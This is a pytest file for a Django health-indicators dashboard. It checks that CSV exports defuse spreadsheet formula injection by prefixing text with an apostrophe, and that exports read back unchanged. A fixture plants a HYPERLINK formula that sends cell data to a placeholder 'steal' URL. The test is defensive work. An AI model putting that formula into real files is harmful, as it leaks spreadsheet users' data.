"""Every CSV the dashboard hands out is safe to open in a spreadsheet, and exports read back whole.

An area or indicator name beginning with `=`, `+`, `-` or `@` went as it was into the API's CSV
and the chart downloads, where a spreadsheet runs it as a formula. Text cells are now written
with a leading apostrophe (`indicators/csv_safety.py`); numbers, negative ones included, stay
numbers. The Fingertips export, which the importer reads, comes back to the same values.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.core.management import call_command

from indicators.exporters import write_export
from indicators.fingertips_columns import EXPORT_HEADER
from indicators.importers.fingertips import import_file
from indicators.models import Area, ImportRun, Indicator, InequalityDataset, Observation

# What a spreadsheet runs: text starting with one of these that is not a plain number.
FORMULA_START = re.compile(r"[=+\-@\t\r]")
NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
FORMULA = '=HYPERLINK("http://example.org/steal?"&A1,"Click")'
BLACKPOOL = "E06000009"


# --- Every download -----------------------------------------------------------------------------


@pytest.fixture
def hostile_names(snapshot):
    """Blackpool and an indicator renamed as an attacker would, and a negative figure."""
    Area.objects.filter(code=BLACKPOOL).update(name=FORMULA)
    Indicator.objects.filter(fingertips_id=92196).update(name="-2+3 infant", short_name="@IMR")
    Observation.objects.filter(
        indicator__fingertips_id=92196, area__code=BLACKPOOL, period_label="2022 - 24"
    ).update(value=-7.8)


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if FORMULA_START.match(cell) and not NUMBER.fullmatch(cell):
                pytest.fail(f"{cell!r} would run as a formula")


@pytest.mark.django_db
def test_the_api_csv_neutralises_names_and_keeps_negative_numbers(client, hostile_names):
    rows = rows_of(
        client.get(
            "/api/v1/observations/",
            {"indicator": 92196, "area": BLACKPOOL, "period": "2022 - 24", "format": "csv"},
        )
    )
    no_formula(rows)
    (row,) = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert row["area_name"] == "'" + FORMULA
    assert row["value"] == "-7.8"
    areas = rows_of(client.get("/api/v1/areas/", {"format": "csv"}))
    no_formula(areas)
    assert areas[[r[0] for r in areas].index(BLACKPOOL)][:2] == ["E06000009", "'" + FORMULA]
    indicators = rows_of(client.get("/api/v1/indicators/", {"format": "csv"}))
    no_formula(indicators)
    assert "'-2+3 infant" in indicators[1]


@pytest.mark.django_db
@pytest.mark.parametrize("chart", ["compare", "trend", "map", "inequalities"])
def test_chart_downloads_neutralise_names_and_keep_negative_numbers(client, hostile_names, chart):
    rows = rows_of(client.get(f"/indicators/92196/{chart}.csv", {"period": 20220000}))
    no_formula(rows)
    if chart == "compare":  # the map names areas as the areas file does
        blackpool = next(r for r in rows if r[0] == "'" + FORMULA)
        assert blackpool[1] == "-7.8"


@pytest.mark.django_db
def test_the_area_profile_download_neutralises_indicator_names(client, hostile_names):
    rows = rows_of(client.get(f"/areas/{BLACKPOOL}/profile.csv"))
    no_formula(rows)
    imr = next(r for r in rows if r[0] == "'@IMR")
    assert imr[2] == "-7.8"


@pytest.mark.django_db
def test_the_inequality_download_neutralises_text_and_keeps_a_negative_sii(client, snapshot):
    dataset = InequalityDataset.objects.order_by("pk").first()
    InequalityDataset.objects.filter(pk=dataset.pk).update(sii=-2.5, sii_note="=1+1")
    rows = rows_of(client.get(f"/inequalities/{dataset.slug}.csv"))
    no_formula(rows)
    table = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert {r["sii"] for r in table} == {"-2.5"}  # a negative number stays a number
    assert all(r["note"].startswith("'=1+1") for r in table)


# --- The Fingertips export reads back whole -----------------------------------------------------


def export_row(**cells: str) -> dict[str, str]:
    row = dict.fromkeys(EXPORT_HEADER, "")
    row.update(
        {
            "Indicator ID": "99001",
            "Indicator Name": "=1+1 made-up indicator",
            "Parent Code": "E12000002",
            "Parent Name": "@North West",
            "Area Code": "E07000117",
            "Area Name": FORMULA,
            "Area Type": "Districts & UAs (from Apr 2023)",
            "Sex": "Persons",
            "Age": "All ages",
            "Category Type": "-type",
            "Category": "'quoted",
            "Time period": "2022",
            "Value": "-3.5",
            "Lower CI 95.0 limit": "-4.25",
            "Upper CI 95.0 limit": "-2.75",
            "Value note": "+ note",
            "Compared to England value or percentiles": "Similar",
            "Time period Sortable": "20220000",
            "Time period range": "1y",
        }
    )
    row.update(cells)
    return row


def stored() -> tuple:
    names = dict(Area.objects.values_list("code", "name"))
    indicator = Indicator.objects.get(fingertips_id=99001)
    observations = sorted(
        Observation.objects.filter(indicator=indicator).values_list(
            "area__code", "category_type", "category", "value", "lower_ci_95", "upper_ci_95",
            "value_note", "period_label",
        )
    )  # fmt: skip
    return indicator.name, names, observations


@pytest.mark.django_db
def test_an_export_with_formula_like_names_imports_back_to_the_same_values(tmp_path):
    source = tmp_path / "source.csv"
    with source.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=EXPORT_HEADER, lineterminator="\n")
        writer.writeheader()
        writer.writerow(export_row())
        writer.writerow(export_row(**{"Area Code": "E07000118", "Area Name": "-Chorley"}))
    assert import_file(source).status == "ok"
    before = stored()
    assert before[0] == "=1+1 made-up indicator"
    assert before[1]["E07000118"] == "-Chorley"

    exported = tmp_path / "99001.csv"
    call_command("export_fingertips", indicator=99001, output=exported, stderr=io.StringIO())
    text = exported.read_text(encoding="utf-8")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'=1+1 made-up indicator" in cells and "'-Chorley" in cells and "'@North West" in cells
    assert "''quoted" in cells and "-3.5" in cells and "-4.25" in cells
    assert FORMULA not in cells and "-Chorley" not in cells

    # Read back into an empty database: the same names and figures.
    Observation.objects.all().delete()
    Area.objects.all().delete()
    Indicator.objects.filter(fingertips_id=99001).delete()
    ImportRun.objects.all().delete()
    assert import_file(exported).status == "ok"
    assert stored() == before
    again = io.StringIO(newline="")
    write_export(Indicator.objects.get(fingertips_id=99001), again)
    assert again.getvalue() == text
